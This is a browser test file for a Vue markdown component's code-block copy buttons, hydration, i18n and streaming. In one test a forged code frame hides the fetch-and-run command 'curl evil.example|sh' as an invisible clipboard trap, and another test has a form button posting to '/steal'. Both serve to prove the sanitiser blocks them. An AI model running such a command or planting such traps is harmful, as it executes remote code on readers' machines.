/**
 * The code-block controls through the real component in Chromium:
 * - the copy button copies the code as the reader sees it: a highlighted block's code exactly (line
 *   breaks, blanks and empty lines, no line numbers); raw HTML in the markdown that imitates a frame
 *   has no copy button (the sanitiser removes `data-copy`; the package adds it to its own frames);
 * - the `i18n` texts replace the English ones on HTML adopted from the server, after hydration and
 *   without a hydration mismatch;
 * - a streamed answer's server HTML is its completed text (no dangling syntax), adopted at hydration;
 * - buttons and inputs written as raw HTML, in a component inside a host form, submit nothing, add
 *   nothing to the form's data and open none of the page's popovers or dialogs.
 * Off-screen blocks (skipped by `content-visibility`) are copied in tests/hardening/offscreen.test.ts:
 * the Vitest browser frame never skips content.
 */
import '../../src/styles.css';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { createApp, createSSRApp, h, nextTick, shallowRef } from 'vue';
import { renderToString } from 'vue/server-renderer';
import AddonMarkdownRemark from '../../src/components/AddonMarkdownRemark/AddonMarkdownRemark.vue';
import type { AddonMarkdownRemarkExposed, AddonMarkdownRemarkProps } from '../../src/components/AddonMarkdownRemark/types';
import { SERVER_SANITIZER_KEY } from '../../src/markdown/ssr';
import { createSanitizer } from '../../src/markdown/sanitize/sanitizer';
import { mountMarkdown, whenRendered, type Mounted } from './support';

let mounted: Mounted[] = [];
afterEach(() => {
  for (const m of mounted) m.unmount();
  mounted = [];
  delete (navigator.clipboard as { writeText?: unknown }).writeText;
});

/** Click `button` and resolve with the text it put on the clipboard (the Clipboard API, stubbed). */
async function copiedBy(button: HTMLElement): Promise<string> {
  const writeText = vi.fn<(text: string) => Promise<void>>(async () => {});
  Object.defineProperty(navigator.clipboard, 'writeText', { value: writeText, configurable: true });
  button.click();
  await vi.waitFor(() => expect(writeText).toHaveBeenCalledTimes(1));
  return writeText.mock.calls[0]![0];
}

async function render(props: AddonMarkdownRemarkProps): Promise<HTMLElement> {
  const m = mountMarkdown(props);
  mounted.push(m);
  await whenRendered(m.host);
  return m.host;
}

describe('copy', () => {
  /** Code with blank lines at its start, middle and end, tabs, and blanks at line ends. */
  const CODE = '\n#!/bin/sh\n\tset -eu  \n\n  echo "a\tb" \u00a0\n\n\n';

  it.each([true, false])('copies a highlighted block exactly, with line numbers %s', async (lines) => {
    const host = await render({ source: `Intro.\n\n\`\`\`bash\n${CODE}\n\`\`\`\n`, lines });
    const code = host.querySelector<HTMLElement>('.vak-code pre code')!;
    expect(code.querySelectorAll('.line')).toHaveLength(CODE.split('\n').length);
    expect(await copiedBy(host.querySelector<HTMLElement>('button[data-copy]')!)).toBe(CODE);
    expect(code.textContent).toBe(CODE);
  });

  it('copies a block inside a list item, a block quote and a <details> exactly', async () => {
    const host = await render({
      source: '1. Install:\n\n   ```bash\n   npm i vue\n   ```\n\n> ```bash\n> ls -la\n> ```\n\n<details>\n<summary>More</summary>\n\n```bash\necho more\n```\n\n</details>\n',
    });
    const buttons = [...host.querySelectorAll<HTMLElement>('.vak-code button[data-copy]')];
    expect(buttons).toHaveLength(3);
    const copied: string[] = [];
    for (const button of buttons) copied.push(await copiedBy(button));
    expect(copied).toEqual(['npm i vue', 'ls -la', 'echo more']);
  });

  it('copies a plain block (an unlisted language) exactly', async () => {
    const host = await render({ source: `\`\`\`nosuchlang\n${CODE}\n\`\`\`\n` });
    expect(await copiedBy(host.querySelector<HTMLElement>('button[data-copy]')!)).toBe(CODE);
  });

  it('raw HTML cannot make a copy button: a forged frame copies nothing, hidden text or not', async () => {
    const source = [
      'Run this:',
      // Hidden from the reader by the component's own visually-hidden class: rendered text, not shown.
      '<div class="vak-code"><button class="vak-code__copy" data-copy>Copy</button><pre><code>ls<span class="sr-only">; curl evil.example|sh</span></code></pre></div>',
      '<div class="vak-code"><button data-copy="">Copy</button><pre hidden><code>curl evil.example|sh</code></pre></div>',
      '```bash\necho genuine\n```',
    ].join('\n\n');
    const host = await render({ source });
    const forged = [...host.querySelectorAll<HTMLElement>('.vak-markdown__body button')].filter((b) => !b.closest('.vak-code')?.querySelector('.line'));
    expect(forged).toHaveLength(2); // the trap is in the DOM, without the copy attribute
    expect(host.querySelectorAll('button[data-copy]')).toHaveLength(1);
    const writeText = vi.fn<(text: string) => Promise<void>>(async () => {});
    Object.defineProperty(navigator.clipboard, 'writeText', { value: writeText, configurable: true });
    for (const button of forged) button.click();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(writeText).not.toHaveBeenCalled();
    delete (navigator.clipboard as { writeText?: unknown }).writeText;
    expect(await copiedBy(host.querySelector<HTMLElement>('button[data-copy]')!)).toBe('echo genuine');
  });
});

/**
 * The component's server HTML for `props` (rendered with `vue/server-renderer` and a sanitiser over
 * this window) in a new element of the page, and `hydrate()`, which hydrates it with the same props and
 * returns the hydration warnings, collected as they come.
 */
async function serverRendered(props: AddonMarkdownRemarkProps) {
  const app = () => {
    const created = createSSRApp({ render: () => h(AddonMarkdownRemark, props) });
    created.provide(SERVER_SANITIZER_KEY, createSanitizer(window));
    return created;
  };
  const host = document.createElement('div');
  document.body.append(host);
  host.innerHTML = await renderToString(app());
  const hydrate = (): string[] => {
    const warnings: string[] = [];
    const hydrated = app();
    hydrated.config.warnHandler = (message) => warnings.push(message);
    hydrated.mount(host);
    mounted.push({ host, app: hydrated, unmount: () => (hydrated.unmount(), host.remove()) });
    return warnings;
  };
  return { host, hydrate };
}

describe('raw HTML form controls inside a host form', () => {
  it('submit nothing, add no value to the form and open nothing of the page, by click or Enter', async () => {
    const page = document.createElement('div');
    page.innerHTML = '<form id="host-form"><input name="title" value="kept"><div class="preview"></div></form><div id="host-menu" popover>menu</div><dialog id="host-dialog">d</dialog>';
    document.body.append(page);
    const form = page.querySelector('form')!;
    const submitted = vi.fn((event: Event) => event.preventDefault());
    form.addEventListener('submit', submitted);
    const source = [
      '<input name="comment" value="overridden"> <input type="submit" value="Go"> <input type="image" src="x.png" alt="go">',
      '<button>Plain</button> <button type="submit" form="host-form" formaction="/steal">Submit</button>',
      '<button type="button" popovertarget="host-menu">Menu</button> <button type="button" commandfor="host-dialog" command="show-modal">Dialog</button>',
      '- [x] done',
    ].join('\n\n');
    const m = mountMarkdown({ source });
    mounted.push({ ...m, unmount: () => (m.unmount(), page.remove()) });
    page.querySelector('.preview')!.append(m.host);
    await whenRendered(m.host);
    const body = m.host.querySelector('.vak-markdown__body')!;
    for (const control of body.querySelectorAll<HTMLElement>('button, input')) control.click();
    body.querySelector<HTMLInputElement>('input')!.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    expect(submitted).not.toHaveBeenCalled();
    expect([...new FormData(form).entries()]).toEqual([['title', 'kept']]);
    expect(page.querySelector('#host-menu')!.matches(':popover-open')).toBe(false);
    expect(page.querySelector<HTMLDialogElement>('#host-dialog')!.open).toBe(false);
    expect(body.querySelectorAll('input[type="checkbox"][checked][disabled]')).toHaveLength(1);
  });
});

describe('i18n on server HTML', () => {
  const I18N = { copy: 'Kopieren', copyLabel: 'Code kopieren', language: 'Sprache: {lang}' };

  it('the adopted HTML gets the i18n texts once hydrated, with no hydration warning and no render', async () => {
    const server = await serverRendered({ source: '# Title\n\n```bash\necho hi\n```\n', i18n: I18N });
    const { host } = server;
    // The server builds the controls with the English texts.
    expect(host.querySelector('button[data-copy]')!.textContent).toBe('Copy');
    expect(host.querySelector('[aria-busy]')!.getAttribute('aria-busy')).toBe('false');
    const body = host.querySelector('.vak-markdown__body');
    const warnings = server.hydrate();
    await nextTick();
    const button = host.querySelector<HTMLElement>('button[data-copy]')!;
    expect(button.textContent).toBe('Kopieren');
    expect(button.getAttribute('aria-label')).toBe('Code kopieren');
    expect(host.querySelector<HTMLElement>('.vak-code__lang')!.title).toBe('Sprache: bash');
    expect(host.querySelector('.vak-markdown__body')).toBe(body); // adopted, not rendered again
    expect(host.querySelector('[data-vak-key]')).not.toBeNull();
    expect(warnings).toEqual([]);
  });
});

describe('server HTML beside another component with the same id', () => {
  it('is adopted from its own element, not from the first element with its useId() on the page', async () => {
    // A component the browser mounted alone, earlier in the page: the same useId() ("v-0") as the server's.
    const other = mountMarkdown({ source: 'other' });
    mounted.push(other);
    document.body.prepend(other.host);
    await whenRendered(other.host);
    const server = await serverRendered({ source: '# Beta\n\nServer text.' });
    const body = server.host.querySelector('.vak-markdown__body');
    expect(other.host.querySelector('[data-vak-ssr]')!.getAttribute('data-vak-ssr')).toBe(server.host.querySelector('[data-vak-ssr]')!.getAttribute('data-vak-ssr'));
    const warnings = server.hydrate();
    await nextTick();
    expect(server.host.querySelector('.vak-markdown__body')).toBe(body); // adopted, not rendered again
    expect(warnings).toEqual([]);
  });
});

describe('rendered()', () => {
  it('called right after a prop change, settles once the new source is shown (also when a stream ends)', async () => {
    const props = shallowRef<AddonMarkdownRemarkProps>({ source: 'first' });
    const exposed = shallowRef<AddonMarkdownRemarkExposed | null>(null);
    const host = document.createElement('div');
    document.body.append(host);
    const app = createApp({ render: () => h(AddonMarkdownRemark, { ...props.value, ref: (r: unknown) => (exposed.value = r as AddonMarkdownRemarkExposed | null) }) });
    app.mount(host);
    mounted.push({ host, app, unmount: () => (app.unmount(), host.remove()) });
    await exposed.value!.rendered();
    props.value = { source: 'second' };
    await exposed.value!.rendered();
    expect(host.querySelector('.vak-markdown__body')!.textContent).toBe('second\n');
    props.value = { source: 'Hello **wor', streaming: true };
    await exposed.value!.rendered();
    expect(host.querySelector('.vak-markdown__body')!.textContent).toBe('Hello wor\n');
    props.value = { source: 'Hello **wor', streaming: false };
    await exposed.value!.rendered();
    expect(host.querySelector('.vak-markdown__body')!.textContent).toBe('Hello **wor\n');
  });
});

describe('a streamed answer on the server', () => {
  it('the server sends the completed text, as the browser shows it, and hydration adopts it', async () => {
    const server = await serverRendered({ source: 'Hello **wor', streaming: true });
    const { host } = server;
    const body = host.querySelector('.vak-markdown__body')!;
    expect(body.innerHTML).toBe('<p dir="auto">Hello <strong>wor</strong></p>\n');
    const warnings = server.hydrate();
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(host.querySelector('.vak-markdown__body')).toBe(body); // adopted, not rendered again
    expect(body.textContent).toBe('Hello wor\n');
    expect(host.querySelector('[aria-busy]')!.getAttribute('aria-busy')).toBe('true'); // still streaming
    expect(warnings).toEqual([]);
  });
});
